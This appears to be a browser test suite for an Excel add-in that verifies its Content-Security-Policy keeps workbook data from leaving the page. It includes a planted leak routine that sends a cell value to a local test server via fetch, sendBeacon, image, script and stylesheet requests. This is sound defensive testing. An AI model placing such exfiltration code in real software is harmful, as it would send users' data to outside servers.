import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Frame, Page } from "playwright-core";
import { readFileSync } from "node:fs";
import path from "node:path";
import type { PageServer } from "../../simulator/server/listen";
import { describeInBrowser, watch, type Watched } from "./browser";
import { BUILD_TIMEOUT, startPage } from "./built";
import { paneOf, savedCopy } from "./excelPage";

const SOURCE = readFileSync(path.resolve("src/taskpane/taskpane.html"), "utf8");
/** Shorter waits fail on a busy machine; a test may need several. */
const PATIENCE = 60_000;
jest.setTimeout(4 * PATIENCE);

/** The policy that the production page carries in its head, directive by directive. */
function policyOf(html: string): Readonly<Record<string, readonly string[]>> {
  const policy = /Content-Security-Policy"?\s+content="([^"]*)"/.exec(html)?.[1] ?? "";
  return Object.fromEntries(
    policy.split(";").map((directive) => {
      const [name = "", ...sources] = directive.trim().split(" ");
      return [name, sources];
    }),
  );
}

/** Somebody else's server: it takes whatever it is sent, and remembers it. */
async function stranger(): Promise<{ origin: string; heard: string[]; server: Server }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(request.url ?? "");
    response.writeHead(204, { "Access-Control-Allow-Origin": "*" }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  return { origin: `http://127.0.0.1:${port}`, heard, server };
}

describeInBrowser("nothing leaves the workbook", ({ browser }) => {
  let server: PageServer;
  let page: Page;
  let pane: Frame;
  let watched: Watched;

  beforeAll(async () => {
    server = await startPage();
  }, BUILD_TIMEOUT);
  afterAll(() => server.close());

  /** One window that keeps to the page's policy, and one that does not. */
  const windows = new Map<boolean, { readonly page: Page; readonly watched: Watched }>();

  const windowFor = async (
    bypassCSP: boolean,
  ): Promise<{ readonly page: Page; readonly watched: Watched }> => {
    const opened = windows.get(bypassCSP);
    if (opened !== undefined) return opened;
    const viewport = { width: 2000, height: 1000 };
    const fresh = await browser().newPage({ ignoreHTTPSErrors: true, bypassCSP, viewport });
    fresh.setDefaultTimeout(PATIENCE);
    const made = { page: fresh, watched: watch(fresh) };
    windows.set(bypassCSP, made);
    return made;
  };

  const open = async (bypassCSP: boolean): Promise<void> => {
    ({ page, watched } = await windowFor(bypassCSP));
    watched.forget();
    await page.goto(`${server.origin}/`);
    pane = await paneOf(page);
  };

  test("the page is served with the production policy, but for Microsoft's address", async () => {
    await open(false);
    const served = policyOf(await (await page.request.get(`${server.origin}/taskpane.html`)).text());
    expect(served).toEqual({
      "default-src": ["'none'"],
      "script-src": ["'self'"],
      "style-src": ["'self'", "'unsafe-inline'"],
      "img-src": ["'self'", "data:"],
      "connect-src": ["'self'"],
    });
    expect(policyOf(SOURCE)).toEqual({
      ...served,
      "script-src": ["'self'", "https://appsforoffice.microsoft.com"],
    });
  });

  /** Addresses that are neither the add-in's own files nor its own memory. */
  const foreign = (): readonly string[] => {
    const own = [`${server.origin}/`, `blob:${server.origin}/`, "data:"];
    return watched.requests.filter((url) => !own.some((start) => url.startsWith(start)));
  };

  test("a whole session asks for nothing but the add-in's own files", async () => {
    await open(false);
    const started = watched.requests.length;
    const press = (name: string | RegExp): Promise<void> =>
      pane.getByRole("button", { name, ...(typeof name === "string" ? { exact: true } : {}) }).click();
    const menu = async (name: string): Promise<void> => {
      await press("More");
      await pane.getByRole("menuitem", { name, exact: true }).click();
    };
    const see = (text: string | RegExp): Promise<void> => pane.getByText(text).first().waitFor();

    await press("Preview");
    await see(/\d+ cells would change on 1 sheet/);
    await press("Evaluate sheet");
    await see(/^Evaluated .* cells written$/);
    await pane.getByRole("tab", { name: /^All/ }).click();
    for (const row of [0, 1, 2]) {
      await pane.locator("[role=tabpanel] [data-row-heading]").nth(row).click();
      await pane.locator("[role=tabpanel] [aria-current=true]").waitFor();
    }
    await menu("Evaluate workbook");
    await see("6 sheets, 76 KPI rows");
    await savedCopy(page);

    await menu("What it understood");
    await pane
      .getByRole("button", { name: /^Change what column/ })
      .last()
      .click();
    await pane.getByRole("combobox", { name: "Used for" }).selectOption({ label: "Comments" });
    await press("Save and evaluate");
    await see(/You corrected it/);
    await press("Back to the results");

    await press(/^Rules:/);
    await press("Export…");
    const rules = await pane.getByRole("textbox", { name: "The rules as text" }).inputValue();
    expect(rules).toContain("profiles");
    await press("Import…");
    await pane.getByRole("textbox", { name: "Its text; you can paste it here" }).fill(rules);
    await press("See what these rules say");
    await press("Import these rules");
    await see(/rule sets? imported\./);
    await press("Back to the results");

    await menu("Check the workbook");
    await pane.getByRole("tab", { name: /^Disagree/ }).waitFor();
    await press(/^Clear results/);
    await see(/cells put back/);
    await savedCopy(page);

    expect(foreign()).toEqual([]);
    // Whatever is fetched later on is a further part of the program, by its plain name: no address carries anything of the workbook.
    const later = watched.requests.slice(started).filter((url) => url.startsWith(server.origin));
    expect(later.filter((url) => !/^\/[\w.-]+\.js$/.test(url.slice(server.origin.length)))).toEqual([]);
    expect(watched.complaints).toEqual([]);
  });

  test.each(["fetch", "image"] as const)("a planted %s would be noticed", async (way) => {
    await open(true);
    const other = await stranger();
    try {
      await pane.evaluate(
        ([to, by]) => {
          if (by === "image") new Image().src = `${to}/image?K4=75%25`;
          else void fetch(`${to}/fetch?K4=75%25`, { mode: "no-cors" });
        },
        [other.origin, way] as const,
      );
      await expectSoon(() => foreign().length > 0);
      expect(foreign()).toEqual([`${other.origin}/${way}?K4=75%25`]);
    } finally {
      other.server.closeAllConnections();
      other.server.close();
    }
  });

  /** Tries, from within the pane, each way a script has of sending a cell's content away. */
  const leak = (origin: string): Promise<void> =>
    pane.evaluate(async (to) => {
      const settled = (element: HTMLElement): Promise<void> =>
        new Promise((resolve) => {
          for (const event of ["load", "error"]) element.addEventListener(event, () => resolve());
          document.body.append(element);
        });
      await fetch(`${to}/fetch?K4=75%25`, { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon(`${to}/beacon`, "75%");
      await settled(Object.assign(new Image(), { src: `${to}/image` }));
      await settled(Object.assign(document.createElement("script"), { src: `${to}/script` }));
      const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${to}/style` });
      await settled(style);
    }, origin);

  test.each([
    ["the policy stops it", false, []],
    [
      "nothing else would have stopped it",
      true,
      ["/beacon", "/fetch?K4=75%25", "/image", "/script", "/style"],
    ],
  ])("a leak planted in the pane: %s", async (_, bypassCSP, heard) => {
    await open(bypassCSP);
    const other = await stranger();
    try {
      await leak(other.origin);
      // A beacon is sent in its own time.
      if (heard.length > 0) await expectSoon(() => other.heard.length >= heard.length);
      else await page.waitForTimeout(1000);
      expect([...other.heard].sort()).toEqual(heard);
    } finally {
      other.server.closeAllConnections();
      other.server.close();
    }
    const refused = watched.complaints.filter((text) => text.includes("Content Security Policy"));
    expect(refused.length > 0).toBe(!bypassCSP);
  });
});

async function expectSoon(holds: () => boolean): Promise<void> {
  const end = Date.now() + PATIENCE;
  while (!holds() && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 100));
}
